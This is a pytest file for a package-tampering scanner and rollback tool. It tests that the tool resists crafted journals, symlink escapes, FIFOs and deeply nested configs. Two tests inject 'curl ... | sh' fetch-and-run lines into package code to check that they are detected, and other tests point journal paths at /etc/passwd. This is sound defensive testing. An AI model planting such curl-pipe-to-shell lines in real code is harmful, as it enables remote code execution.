"""Attacks and accidents a review found: each must end in the safe outcome, with a clear message."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
from pathlib import Path
from typing import Any

import pytest

import patchguard
from patchguard import Kind, Severity

from .helpers import REPO, Env, build_wheel, cli, patch_txn

MLA = "minillm/models/mla.py"


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def test_odd_line_breaks_in_a_comment_do_not_hide_injected_code(tmp_path: Path) -> None:
    env = Env(tmp_path / "venv")
    src = "def b(x):\n    z = x + 1\n    w = z - 3\n    return w\n"
    wheel = build_wheel(tmp_path / "house", "ffpkg", "1.0", {"ffpkg/__init__.py": src})
    env.install(wheel)
    edited = src.replace(
        "    w = z - 3\n", "    w = z - 3  # \x1c\x0c\x85\u2028\n    import os; os.system('curl x|sh')\n"
    )
    (env.site / "ffpkg/__init__.py").write_text(edited)
    report = patchguard.scan(["ffpkg"], site_packages=[str(env.site)], wheelhouse=[str(tmp_path / "house")])
    hits = [(f.rule, f.line) for f in report.findings if f.severity is Severity.HIGH]
    assert hits == [("subprocess", 4)]


def test_a_crafted_journal_cannot_reach_outside_the_environment(env: Env, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "a").write_text("keep a")
    (victim / "b").write_text("keep b")
    state = env.site / ".patchguard"
    state.mkdir()
    (state / "journal.json").write_text(
        json.dumps(
            {
                "schema": "patchguard.journal/1",
                "txid": "x1",
                "also": [str(victim)],
                "entries": [
                    {"path": str(victim / "a"), "before": None, "tmp": str(victim / "b")},
                    {
                        "path": str(env.site / MLA),
                        "before": "00",
                        "backup": "/etc/hostname",
                        "tmp": "/etc/passwd",
                    },
                ],
            }
        )
    )
    mla = (env.site / MLA).read_bytes()
    code, _, err = cli("scan", "minillm", "--site-packages", str(env.site), "--no-analysis")
    assert code == 0, err
    assert (victim / "a").read_text() == "keep a" and (victim / "b").read_text() == "keep b"
    assert (env.site / MLA).read_bytes() == mla  # the backup outside the transaction's dir was not used
    assert Path("/etc/passwd").exists()
    assert not (state / "journal.json").exists()


def test_malformed_journal_is_a_clear_error(env: Env) -> None:
    state = env.site / ".patchguard"
    state.mkdir()
    (state / "journal.json").write_text('{"entries": [1]}')
    code, out, err = cli("scan", "--site-packages", str(env.site))
    assert code == 2 and out == "" and "malformed transaction journal" in err and "Traceback" not in err


def test_restore_never_writes_outside_the_environment(env: Env, tmp_path: Path, minillm_wheel: Path) -> None:
    house = tmp_path / "house"
    house.mkdir()
    shutil.copy(minillm_wheel, house)
    envs = (env.site / "minillm/envs.py").read_bytes()
    victim = tmp_path / "victim2"
    victim.mkdir()
    record = env.dist_info("minillm", "0.4.0") / "RECORD"
    record.write_text(record.read_text() + f"{victim / 'notes.txt'},sha256={_b64(envs)},{len(envs)}\n")
    (env.site / "minillm/envs.py").write_text("x = 1\n")
    patchguard.restore(
        ["minillm"], site_packages=[str(env.site)], paths=["minillm/*"], wheelhouse=[str(house)]
    )
    code, _, err = cli("restore", "minillm", "--site-packages", str(env.site), "--wheelhouse", str(house))
    assert code == 2 and "resolves outside" in err
    assert list(victim.iterdir()) == []


def test_an_allowed_set_does_not_excuse_more_code(env: Env, tmp_path: Path) -> None:
    shutil.copytree(REPO / "patches", tmp_path / "patches")
    patchguard.apply_set("glm5-debug", site_packages=[str(env.site)])
    (tmp_path / "patchguard.toml").write_text('allowed_sets = ["glm5-debug"]\n')
    assert cli("check", "--site-packages", str(env.site))[0] == 0
    with open(env.site / MLA, "a") as f:
        f.write("\nimport os; os.system('curl evil | sh')\n")
    code, out, _ = cli("check", "--site-packages", str(env.site))
    assert code == 1 and "subprocess" in out


def test_patch_sets_never_touch_metadata(env: Env, tmp_path: Path) -> None:
    d = tmp_path / "patches/hide"
    d.mkdir(parents=True)
    (d / "patchset.toml").write_text(
        'name = "hide"\ntargets = [{distribution = "minillm", version = ""}]\nfiles = ["0001.patch"]\n'
    )
    (d / "0001.patch").write_text(
        "--- a/minillm-0.4.0.dist-info/RECORD\n+++ b/minillm-0.4.0.dist-info/RECORD\n@@ -1 +1 @@\n-x\n+y\n"
    )
    code, _, err = cli("apply", "--set", "hide", "--site-packages", str(env.site))
    assert code == 2 and "never patched" in err


def test_a_deleted_subpackage_is_restored(env: Env, tmp_path: Path, minillm_wheel: Path) -> None:
    shutil.rmtree(env.site / "minillm/kernels")
    result = patchguard.restore(
        ["minillm"], site_packages=[str(env.site)], wheelhouse=[str(minillm_wheel.parent)]
    )
    assert result.after is not None and result.after.findings == ()
    assert (env.site / "minillm/kernels/__init__.py").exists()


def test_an_unexpected_python_file_stays_unexpected_with_analysis(env: Env) -> None:
    (env.site / "minillm/extra.py").write_text("x = 1\n")
    report = patchguard.scan(["minillm"], site_packages=[str(env.site)])
    assert [(f.kind, f.severity, f.rule) for f in report.findings] == [
        (Kind.UNEXPECTED, Severity.MODERATE, "unexpected-python")
    ]
    assert cli("scan", "minillm", "--site-packages", str(env.site), "--fail-on", "moderate")[0] == 1


def test_capture_with_a_bad_version_leaves_nothing(env: Env, tmp_path: Path, minillm_wheel: Path) -> None:
    (env.site / MLA).write_text((env.site / MLA).read_text() + "\n# x\n")
    code, _, err = cli(
        "capture",
        "minillm",
        "--set",
        "bad",
        "--version",
        "not a spec",
        "--patches",
        str(tmp_path / "p"),
        "--site-packages",
        str(env.site),
        "--wheelhouse",
        str(minillm_wheel.parent),
    )
    assert code == 2 and "is not a version specifier" in err
    assert not (tmp_path / "p/bad").exists()


def test_every_command_says_it_rolled_back(env: Env, tmp_path: Path, minillm_wheel: Path) -> None:
    import subprocess

    from .helpers import patchguard_exe

    (env.site / MLA).write_text("x = 1\n")
    proc = subprocess.run(
        [
            *patchguard_exe(),
            "restore",
            "minillm",
            "--site-packages",
            str(env.site),
            "--wheelhouse",
            str(minillm_wheel.parent),
        ],
        env={**__import__("os").environ, "PATCHGUARD_TEST_CRASH_AT": "6"},
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode == 137
    code, _, err = cli("scan", "minillm", "--site-packages", str(env.site), "--no-analysis")
    assert code == 0  # mla.py is back to its modified state: a moderate finding, below --fail-on high
    assert "rolled back an interrupted transaction first" in err
    assert (env.site / MLA).read_text() == "x = 1\n"


def test_a_failed_commit_rolls_back_files_outside_the_state_root(tmp_path: Path) -> None:
    import errno
    import os

    import pytest

    from patchguard import txn

    site, scripts = tmp_path / "site", tmp_path / "bin"
    site.mkdir()
    scripts.mkdir()
    (site / "mod.py").write_bytes(b"old-mod")
    (scripts / "tool").write_bytes(b"old-script")
    plan = txn.Plan(
        str(site),
        (
            txn.Change(str(site / "mod.py"), b"new-mod", hashlib.sha256(b"old-mod").hexdigest()),
            txn.Change(str(scripts / "tool"), b"NEW-script", hashlib.sha256(b"old-script").hexdigest()),
        ),
        also=(str(scripts),),
    )

    real_apply = txn.staging.apply_changes

    def full(plan: txn.Plan, entries: Any) -> set[str]:
        real_apply(plan, entries)  # every file replaced, then a write fails before the commit point
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    mp = pytest.MonkeyPatch()
    patch_txn(mp, "apply_changes", full)
    try:
        with pytest.raises(txn.TransactionError, match="nothing was changed"):
            txn.commit(plan)
    finally:
        mp.undo()
    assert (site / "mod.py").read_bytes() == b"old-mod"
    assert (scripts / "tool").read_bytes() == b"old-script"
    assert [p.name for p in scripts.iterdir()] == ["tool"]  # no temp file left


def test_a_symlinked_state_dir_is_refused(env: Env, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    (victim / "important").mkdir(parents=True)
    (victim / "important/data.txt").write_text("precious")
    state = env.site / ".patchguard"
    state.mkdir()
    (state / "backups").symlink_to(victim)
    (state / "journal.json").write_text('{"txid": "important", "entries": []}')
    code, _out, err = cli("scan", "--site-packages", str(env.site))
    assert code == 2 and "is a symlink" in err
    assert (victim / "important/data.txt").read_text() == "precious"


def test_a_journal_entry_naming_the_journal_is_skipped(env: Env) -> None:
    state = env.site / ".patchguard"
    state.mkdir()
    journal = state / "journal.json"
    journal.write_text(json.dumps({"txid": "t1", "entries": [{"path": str(journal), "before": None}]}))
    for command in ("status", "sets", "scan"):
        code, _, err = cli(command, "--site-packages", str(env.site))
        assert code in (0, 1) and "Traceback" not in err, (command, err)
    assert not journal.exists()


def test_journal_fields_of_the_wrong_type_make_their_entry_skipped(env: Env) -> None:
    """The journal is parsed once into typed entries: a field of the wrong type is never guessed at (a
    ``before`` that is no hash would otherwise send recovery to a backup); the rest still rolls back."""
    state = env.site / ".patchguard"
    (state / "backups/t2").mkdir(parents=True)
    mla, envs = env.site / MLA, env.site / "minillm/envs.py"
    kept = mla.read_bytes()
    (state / "backups/t2/00000-mla.py").write_bytes(b"x = 'not the original'\n")
    envs.write_bytes(b"edited = True\n")
    (state / "backups/t2/00001-envs.py").write_bytes(b"original = True\n")
    entries = [
        {"path": str(mla), "before": 5, "backup": str(state / "backups/t2/00000-mla.py"), "mkdirs": "x"},
        {
            "path": str(envs),
            "before": hashlib.sha256(b"original = True\n").hexdigest(),
            "tmp": 7,
            "backup": str(state / "backups/t2/00001-envs.py"),
            "mkdirs": [3, None],
        },
    ]
    doc = {"txid": "t2", "label": ["no"], "also": "x", "entries": entries, "rmdirs": [[1, 2], "y"]}
    (state / "journal.json").write_text(json.dumps(doc))
    code, out, err = cli("status", "--site-packages", str(env.site))
    assert code in (0, 1) and "Traceback" not in err, err
    assert "t2" in out
    assert mla.read_bytes() == kept  # skipped: its backup was not taken for the original
    assert envs.read_bytes() == b"original = True\n"  # the well-formed entry rolled back
    assert not (state / "journal.json").exists()
    assert (state / "backups/t2").is_dir()  # an entry was skipped: the originals are kept for a person


# --- inputs read without bounds: FIFOs, /dev/zero, deep nesting, wrong types, runaway probes ----------------


def _hostile_sets(tmp_path: Path) -> Path:
    """A patches directory holding one well-formed set, and returns its parent for the hostile copies."""
    root = tmp_path / "patches"
    shutil.copytree(REPO / "patches/glm5-debug", root / "glm5-debug")
    return root


def _set_with(root: Path, name: str, patch: str) -> Path:
    """A copy of glm5-debug named ``name`` whose second patch file is replaced by the caller."""
    d = root / name
    shutil.copytree(root / "glm5-debug", d)
    toml = d / "patchset.toml"
    toml.write_text(toml.read_text().replace('name = "glm5-debug"', f'name = "{name}"'))
    target = d / patch
    target.unlink()
    return target


def _one_line_exit_2(args: list[str], *expected: str) -> None:
    code, _out, err = cli(*args)
    assert code == 2, (args, err)
    (line,) = err.strip().splitlines()
    assert all(e in line for e in expected), line


def test_patch_files_that_are_not_regular_files_are_refused(env: Env, tmp_path: Path) -> None:
    root = _hostile_sets(tmp_path)
    os.mkfifo(_set_with(root, "fifo-patch", "0002-mla-py.patch"))
    _set_with(root, "zero-patch", "0002-mla-py.patch").symlink_to("/dev/zero")
    before = {p: p.read_bytes() for p in env.site.rglob("*") if p.is_file()}
    for name in ("fifo-patch", "zero-patch"):
        args = ["apply", "--set", name, "--patches", str(root), "--site-packages", str(env.site)]
        _one_line_exit_2(args, f"{name}/0002-mla-py.patch", "not a regular file")
    assert {p: p.read_bytes() for p in env.site.rglob("*") if p.is_file()} == before


def test_a_deeply_nested_patchset_toml_is_one_line(env: Env, tmp_path: Path) -> None:
    root = _hostile_sets(tmp_path)
    (root / "deep").mkdir()
    (root / "deep/patchset.toml").write_text('name = "deep"\nx = ' + "[" * 50_000 + "]" * 50_000 + "\n")
    for args in (["sets"], ["status"], ["apply", "--set", "deep"]):
        _one_line_exit_2(
            [*args, "--patches", str(root), "--site-packages", str(env.site)], "deep/patchset.toml", "nested"
        )
    fifo = root / "fifo-toml"
    fifo.mkdir()
    os.mkfifo(fifo / "patchset.toml")
    _one_line_exit_2(
        ["apply", "--set", "fifo-toml", "--patches", str(root), "--site-packages", str(env.site)],
        "fifo-toml/patchset.toml",
    )


def test_policies_locks_and_model_configs_are_bounded(env: Env, tmp_path: Path) -> None:
    site = ["--site-packages", str(env.site)]
    deep_toml = tmp_path / "deep.toml"
    deep_toml.write_text("[tool.patchguard]\nx = " + "[" * 50_000 + "]" * 50_000 + "\n")
    _one_line_exit_2(["check", "--policy", str(deep_toml), *site], str(deep_toml), "nested too deeply")
    deep_json = tmp_path / "deep.json"
    deep_json.write_text("[" * 100_000)
    _one_line_exit_2(["check", "--lock", str(deep_json), *site], str(deep_json), "nested too deeply")
    _one_line_exit_2(["scan", "--model-config", str(deep_json), *site], str(deep_json), "nested too deeply")
    bad_types = tmp_path / "types.json"
    bad_types.write_text(json.dumps({"schema": "patchguard.lock/1", "distributions": {}, "unowned": [1, {}]}))
    _one_line_exit_2(["check", "--lock", str(bad_types), *site], str(bad_types), "not a patchguard.lock/1")
    zero, fifo = tmp_path / "zero.json", tmp_path / "fifo.json"
    zero.symlink_to("/dev/zero")
    os.mkfifo(fifo)
    for path in (zero, fifo):
        _one_line_exit_2(["check", "--lock", str(path), *site], str(path), "not a regular file")
        _one_line_exit_2(["check", "--policy", str(path), *site], str(path), "not a regular file")
        _one_line_exit_2(["scan", "--model-config", str(path), *site], str(path), "not a regular file")


def test_a_python_that_is_not_one_is_refused_quickly(tmp_path: Path) -> None:
    empty, chatty = tmp_path / "empty", tmp_path / "chatty"
    empty.write_text("#!/bin/sh\necho '{}'\n")
    chatty.write_text("#!/bin/sh\nexec yes\n")
    for script in (empty, chatty):
        script.chmod(0o755)
        _one_line_exit_2(["scan", "--python", str(script)], str(script), "--python")


def test_fifos_where_files_should_be_never_hang_a_command(
    env: Env, tmp_path: Path, minillm_wheel: Path
) -> None:
    rotary = env.site / "minillm/layers/rotary.py"
    rotary.unlink()
    os.mkfifo(rotary)  # an owned file
    os.mkfifo(env.site / "sitecustomize.py")
    os.mkfifo(env.site / "evil.pth")
    (env.site / "minillm/loop1").symlink_to("loop2")
    (env.site / "minillm/loop2").symlink_to("loop1")
    site = ["--site-packages", str(env.site)]
    wheels = ["--wheelhouse", str(minillm_wheel.parent), "--offline"]
    code, out, err = cli("scan", *site, *wheels, "--format", "json")
    assert code in (0, 1), err
    found = {(f["kind"], f["path"]) for f in json.loads(out)["findings"]}
    assert ("unverifiable", "minillm/layers/rotary.py") in found
    assert {"sitecustomize.py", "evil.pth"} <= {path for _, path in found}
    assert cli("check", *site)[0] in (0, 1)
    assert cli("lock", "-o", str(tmp_path / "lock.json"), *site)[0] == 0
    assert cli("status", *site)[0] == 0
    code, out, err = cli("diff", *site, *wheels)
    assert code == 2 and "not a regular file): not diffed" in err and "diff --git" not in err
    assert "+++ b/minillm/layers/rotary.py" not in out


def test_a_set_cannot_reach_patchguards_state_through_an_alias(env: Env, tmp_path: Path) -> None:
    """A symlinked directory inside site-packages that leads into .patchguard/ is not a way in."""
    (env.site / ".patchguard").mkdir()
    (env.site / "minillm/state").symlink_to("../.patchguard")
    patches = tmp_path / "patches"
    (patches / "evil").mkdir(parents=True)
    (patches / "evil/patchset.toml").write_text(
        'name = "evil"\ntargets = [{distribution = "minillm", version = ">=0"}]\nfiles = ["0001.patch"]\n'
    )
    for target in ("minillm/state/evil.txt", "minillm/state/state.json"):
        (patches / "evil/0001.patch").write_text(
            f"diff --git a/{target} b/{target}\nnew file mode 100644\n--- /dev/null\n+++ b/{target}\n"
            "@@ -0,0 +1 @@\n+owned\n"
        )
        code, _out, err = cli(
            "apply", "--set", "evil", "--patches", str(patches), "--site-packages", str(env.site)
        )
        assert code == 2 and "patchguard's own state" in err, err
        assert sorted(p.name for p in (env.site / ".patchguard").iterdir()) in ([], ["lock"])


def test_paths_named_on_purpose_must_exist(env: Env, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    site = ["--site-packages", str(env.site)]
    nope = str(tmp_path / "nope")
    for args in (["sets", "--patches", nope], ["status", "--patches", nope], ["scan", "--patches", nope]):
        _one_line_exit_2([*args, *site], nope, "patch set directory does not exist")
    for args in (["diff", "--wheelhouse", nope], ["restore", "minillm", "--wheelhouse", nope]):
        _one_line_exit_2([*args, *site], nope, "wheelhouse does not exist")
    monkeypatch.setenv("PATCHGUARD_PATCHES", nope)
    _one_line_exit_2(["sets", *site], "$PATCHGUARD_PATCHES", nope)
    monkeypatch.delenv("PATCHGUARD_PATCHES")
    monkeypatch.setenv("PATCHGUARD_WHEELHOUSE", nope)
    _one_line_exit_2(["diff", *site], nope, "wheelhouse does not exist")


def test_a_journals_label_cannot_forge_a_line_of_status_error(env: Env, tmp_path: Path) -> None:
    """The journal is anyone's who could write ``.patchguard/``: its label and txid, said in an error after
    the rollback, are escaped — a newline in them starts no line of its own."""
    state = env.site / ".patchguard"
    state.mkdir()
    label = "apply x\nHIGH minillm/models/mla.py tensor-dump: forged"
    (state / "journal.json").write_text(json.dumps({"txid": "t3\nHIGH", "label": label, "entries": []}))
    code, _, err = cli("status", "--site-packages", str(env.site), "--patches", str(tmp_path / "none"))
    assert code == 2 and "Traceback" not in err, err
    assert "rolled back" in err
    assert not any(line.strip().startswith("HIGH") for line in err.splitlines()), err
